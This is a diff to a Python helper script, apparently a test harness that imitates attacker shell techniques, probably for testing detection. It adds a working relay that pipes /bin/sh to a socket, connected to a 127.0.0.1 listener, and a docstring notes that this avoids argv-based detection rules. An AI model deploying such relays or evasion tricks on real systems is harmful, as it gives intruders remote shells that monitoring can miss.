@@ -166,6 +166,35 @@ def pty_relay_unix():
     os.wait()
 
 
+def pipe_relay(sock, argv):
+    """A relay through pipes: a program on pipes this process copies to and from the socket
+    it holds on another fd — ncat -e's way, and a Go implant's (exec.Cmd with the connection
+    as Stdin and Stdout). Run from a script file: no one-liner for argv rules to see."""
+    import threading
+    p = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+                         stderr=subprocess.STDOUT)
+
+    def up():
+        for d in iter(lambda: sock.recv(4096), b""):
+            p.stdin.write(d)
+            p.stdin.flush()
+        p.stdin.close()
+    threading.Thread(target=up, daemon=True).start()
+    for d in iter(lambda: p.stdout.read1(4096), b""):
+        sock.sendall(d)
+    p.wait()
+
+
+def pipe_relay_script(sock):
+    """The same relay for a shell given a script: a CI runner running a job step, its output
+    sent on to the server (the script reads the server's line, and ends)."""
+    import tempfile
+    with tempfile.NamedTemporaryFile("w", suffix=".sh") as f:
+        f.write("read line\necho \"step: $line\"\n")
+        f.flush()
+        pipe_relay(sock, ["/bin/sh", f.name])
+
+
 def shell(argv, stdin=subprocess.DEVNULL):
     return subprocess.call(argv, stdin=stdin, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)
@@ -229,6 +258,10 @@ def main():
         pty_relay(socket.create_connection(("127.0.0.1", int(args[0]))))
     elif cmd == "pty-relay-unix":
         pty_relay_unix()
+    elif cmd == "pipe-relay-shell":  # args: the listener's port
+        pipe_relay(socket.create_connection(("127.0.0.1", int(args[0]))), ["/bin/sh"])
+    elif cmd == "pipe-relay-script":  # args: the listener's port
+        pipe_relay_script(socket.create_connection(("127.0.0.1", int(args[0]))))
     elif cmd == "spawn-shell":      # a web app's "upgrade to an interactive shell"
         shell(["/bin/sh", "-i"])
     elif cmd == "spawn-bash-i":
